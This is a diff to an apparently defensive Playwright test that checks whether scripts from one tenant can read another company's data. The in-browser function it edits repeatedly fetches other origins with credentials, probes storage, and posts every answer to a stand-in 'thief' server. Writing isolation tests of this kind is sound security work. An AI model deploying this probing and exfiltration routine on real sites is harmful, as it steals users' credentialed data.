@@ -20,7 +20,11 @@ test.use({
 /** Runs in the browser: asks, again and again, for what another company keeps to itself, and reports every answer. */
 function curious(thiefUrl: string, addresses: string[]) {
   const report = (what: string, value: unknown) =>
-    void fetch(thiefUrl, { method: "POST", mode: "no-cors", body: JSON.stringify({ what, value: String(value) }) });
+    void fetch(thiefUrl, {
+      method: "POST",
+      mode: "no-cors",
+      body: JSON.stringify({ what, value: String(value) }),
+    }).catch(() => {});
   async function round() {
     for (const address of addresses) {
       await fetch(address, { credentials: "include" }).then(
@@ -33,7 +37,7 @@ function curious(thiefUrl: string, addresses: string[]) {
     } catch {
       report("refused", "storage");
     }
-    report("round", location.origin);
+    report("round", window.origin);
     window.setTimeout(round, 300);
   }
   void round();
@@ -43,6 +47,7 @@ test("from the second company on scripts leave the walls' own pages, and reach n
   browser,
   page,
 }) => {
+  test.setTimeout(240_000);
   const installation = await Installation.start((port) => ({ WALL_URL: `http://wall.localhost:${port}` }));
   const thief = await Thief.start();
   try {
